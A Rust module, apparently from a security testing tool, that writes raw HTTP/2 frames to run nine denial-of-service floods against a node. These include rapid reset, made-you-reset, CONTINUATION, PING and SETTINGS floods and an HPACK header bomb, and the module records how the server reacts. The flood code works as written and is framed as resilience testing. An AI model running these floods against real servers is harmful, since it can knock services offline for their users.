//! Handwritten HTTP/2 frames, because no library misbehaves like this.

use std::sync::Arc;
use std::time::Duration;

use anyhow::Result;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _, ReadHalf};
use tokio::net::TcpStream;
use tokio::sync::Notify;
use tokio::time::{Instant, timeout};
use tokio_rustls::client::TlsStream;

use super::{AttackContext, Outcome};
use crate::certificates;
use crate::wire::{self, Target};

const CONNECTIONS: usize = 4;
/// Frames or groups of frames sent per connection.
const PIECES: u32 = 20_000;
const FLOOD_MAX: Duration = Duration::from_secs(5);
/// Maximum wait for a reaction of the node after the flood.
const AFTER_MAX: Duration = Duration::from_secs(2);
/// Bytes per write.
const CHUNK_BYTES: usize = 16 * 1024;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// A kind of flood (RFC 9113 §10.5).
#[derive(Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    /// Requests that are cancelled at once (CVE-2023-44487).
    RapidReset,
    /// Requests that make the server cancel them (CVE-2025-8671).
    MadeYouReset,
    /// A head that never ends.
    Continuation,
    /// A head of empty frames that never ends.
    EmptyContinuation,
    /// A body of empty frames that never ends.
    EmptyData,
    /// Settings, each of which must be acknowledged.
    Settings,
    /// Pings, each of which must be acknowledged.
    Ping,
    /// Pings whose acknowledgements are not read.
    UnreadPing,
    /// A small head that decompresses into a large one (RFC 7541 §7.3).
    HeaderBomb,
}

pub const FLOODS: [Flood; 9] = [
    Flood::RapidReset,
    Flood::MadeYouReset,
    Flood::Continuation,
    Flood::EmptyContinuation,
    Flood::EmptyData,
    Flood::Settings,
    Flood::Ping,
    Flood::UnreadPing,
    Flood::HeaderBomb,
];

impl Flood {
    pub fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "HTTP/2 rapid reset",
            Self::MadeYouReset => "HTTP/2 made-you-reset",
            Self::Continuation => "HTTP/2 CONTINUATION flood",
            Self::EmptyContinuation => "HTTP/2 empty CONTINUATION flood",
            Self::EmptyData => "HTTP/2 empty DATA flood",
            Self::Settings => "HTTP/2 SETTINGS flood",
            Self::Ping => "HTTP/2 PING flood",
            Self::UnreadPing => "HTTP/2 PING flood, answers not read",
            Self::HeaderBomb => "HTTP/2 header bomb",
        }
    }

    /// Bytes before the flood.
    fn beginning(self) -> Vec<u8> {
        let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        frame(&mut bytes, SETTINGS, 0, 0, &[]);
        match self {
            Self::Continuation | Self::EmptyContinuation => {
                frame(&mut bytes, HEADERS, END_STREAM, 1, &head(0x82));
            }
            Self::EmptyData => frame(&mut bytes, HEADERS, END_HEADERS, 1, &head(0x83)),
            _ => {}
        }
        bytes
    }

    fn piece(self, bytes: &mut Vec<u8>, number: u32) {
        let stream = number * 2 + 1;
        match self {
            Self::RapidReset => {
                frame(bytes, HEADERS, END_HEADERS | END_STREAM, stream, &head(0x82));
                frame(bytes, RST_STREAM, 0, stream, &8_u32.to_be_bytes());
            }
            Self::MadeYouReset => {
                frame(bytes, HEADERS, END_HEADERS | END_STREAM, stream, &head(0x82));
                // An increment of zero is a stream error (RFC 9113 §6.9).
                frame(bytes, WINDOW_UPDATE, 0, stream, &[0; 4]);
            }
            Self::Continuation => {
                frame(bytes, CONTINUATION, 0, 1, &literal(&format!("x-{number}"), &"a".repeat(100)));
            }
            Self::EmptyContinuation => frame(bytes, CONTINUATION, 0, 1, &[]),
            Self::EmptyData => frame(bytes, DATA, 0, 1, &[]),
            Self::Settings => frame(bytes, SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]),
            Self::Ping | Self::UnreadPing => frame(bytes, PING, 0, 0, &u64::from(number).to_be_bytes()),
            Self::HeaderBomb => {
                let mut block = head(0x82);
                if number == 0 {
                    // Into the dynamic table, at index 62.
                    block.push(0x40);
                    text(&mut block, "x-bomb");
                    text(&mut block, &"a".repeat(126));
                }
                // "Indexed header field", index 62, repeated.
                block.resize(CHUNK_BYTES - 9, 0x80 | 0x3e);
                frame(bytes, HEADERS, END_HEADERS | END_STREAM, stream, &block);
            }
        }
    }
}

/// One flood on several connections.
pub async fn attack(field: &AttackContext<'_>, flood: Flood) -> Result<Outcome> {
    let mut outcome = Outcome::default();
    let Some(https) = &field.node.https else { return Ok(outcome) };
    let target = Target { tls: Some(certificates::client(&field.node.pki(), None, b"h2")?), ..https.clone() };
    let mut flooding = tokio::task::JoinSet::new();
    for _ in 0..CONNECTIONS {
        flooding.spawn(run(target.clone(), flood));
    }
    let mut swallowed = 0;
    while let Some(end) = flooding.join_next().await {
        let Ok(end) = end? else {
            outcome.note("a connection could not be opened".to_owned());
            continue;
        };
        outcome.tries += u64::from(end.pieces);
        match end.closed_after {
            Some(after) => outcome.closed_within = outcome.closed_within.max(Some(after)),
            None => swallowed += 1,
        }
        if flood == Flood::HeaderBomb && end.served > 0 {
            outcome.wrong_accepts += end.served;
            outcome.note(format!("ACCEPTED: {} requests with an unpacked head beyond the limit", end.served));
        }
        if let Some(reason) = end.reason {
            outcome.note(format!("ended by GOAWAY with error code {reason}"));
        }
    }
    if swallowed > 0 {
        outcome.note(format!("{swallowed} of {CONNECTIONS} connections took the whole flood of {PIECES} pieces or stopped reading"));
    }
    Ok(outcome)
}

struct End {
    pieces: u32,
    closed_after: Option<Duration>,
    reason: Option<u32>,
    served: u64,
}

async fn run(target: Target, flood: Flood) -> Result<End> {
    let Some(tls) = &target.tls else { anyhow::bail!("not a TLS listener") };
    let stream = wire::handshake(target.connect_tcp().await?, tls).await?;
    if stream.get_ref().1.alpn_protocol() != Some(b"h2") {
        anyhow::bail!("HTTP/2 was not agreed on");
    }
    let (reader, mut writer) = tokio::io::split(stream);
    let begun = Instant::now();
    let stop = Arc::new(Notify::new());
    let reading = (flood != Flood::UnreadPing).then(|| tokio::spawn(watch(reader, begun, Arc::clone(&stop))));
    let mut pieces = 0;
    let writing = async {
        writer.write_all(&flood.beginning()).await?;
        let mut chunk = Vec::with_capacity(2 * CHUNK_BYTES);
        while pieces < PIECES {
            chunk.clear();
            while chunk.len() < CHUNK_BYTES && pieces < PIECES {
                flood.piece(&mut chunk, pieces);
                pieces += 1;
            }
            writer.write_all(&chunk).await?;
        }
        writer.flush().await
    };
    let ended = tokio::select! {
        ended = timeout(FLOOD_MAX, writing) => ended,
        () = stop.notified() => Ok(Ok(())),
    };
    let mut end = End { pieces, closed_after: None, reason: None, served: 0 };
    if let Some(mut reading) = reading {
        match timeout(AFTER_MAX, &mut reading).await {
            Ok(seen) => {
                let seen = seen?;
                return Ok(End { pieces, ..seen });
            }
            Err(_) => reading.abort(),
        }
    } else if matches!(ended, Ok(Err(_))) {
        end.closed_after = Some(begun.elapsed());
    }
    Ok(end)
}

/// Reads frames until the node ends or closes the connection.
async fn watch(mut reader: ReadHalf<TlsStream<TcpStream>>, begun: Instant, stop: Arc<Notify>) -> End {
    let mut end = End { pieces: 0, closed_after: None, reason: None, served: 0 };
    let mut payload = Vec::new();
    loop {
        let mut header = [0; 9];
        if reader.read_exact(&mut header).await.is_err() {
            break;
        }
        let length = u32::from_be_bytes([0, header[0], header[1], header[2]]);
        payload.resize(length as usize, 0);
        if reader.read_exact(&mut payload).await.is_err() {
            break;
        }
        if header[3] == HEADERS && payload.first() == Some(&0x88) {
            // `:status: 200`, entry 8 of the static table.
            end.served += 1;
        }
        if header[3] == GOAWAY {
            end.reason = payload.get(4..8).and_then(|code| code.try_into().ok()).map(u32::from_be_bytes);
            break;
        }
    }
    end.closed_after = Some(begun.elapsed());
    stop.notify_one();
    end
}

/// Appends a frame (RFC 9113 §4.1).
fn frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let [_, length @ ..] = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    bytes.extend_from_slice(&length);
    bytes.extend_from_slice(&[kind, flags]);
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
}

/// The head of a request for `/livez` (RFC 7541, appendix A: 0x82 is GET, 0x83 POST, 0x87 https).
fn head(method: u8) -> Vec<u8> {
    let mut block = vec![method, 0x87, 0x04];
    text(&mut block, "/livez");
    block.push(0x01);
    text(&mut block, "localhost");
    block
}

/// A header that is not added to the table (RFC 7541 §6.2.2).
fn literal(name: &str, value: &str) -> Vec<u8> {
    let mut block = vec![0x00];
    text(&mut block, name);
    text(&mut block, value);
    block
}

/// A string of less than 127 bytes, not compressed (RFC 7541 §5.2).
fn text(block: &mut Vec<u8>, text: &str) {
    debug_assert!(text.len() < 127);
    block.push(u8::try_from(text.len()).unwrap_or_default());
    block.extend_from_slice(text.as_bytes());
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_frame_is_its_header_and_its_payload() {
        let mut bytes = Vec::new();
        frame(&mut bytes, PING, 0, 0, &[7; 8]);
        assert_eq!(bytes, [0, 0, 8, 6, 0, 0, 0, 0, 0, 7, 7, 7, 7, 7, 7, 7, 7]);
    }

    #[test]
    fn every_flood_fits_into_frames_that_a_server_must_accept() {
        for flood in FLOODS {
            let mut bytes = Vec::new();
            flood.piece(&mut bytes, 0);
            assert!(bytes.len() <= CHUNK_BYTES, "{}", flood.name());
        }
    }
}
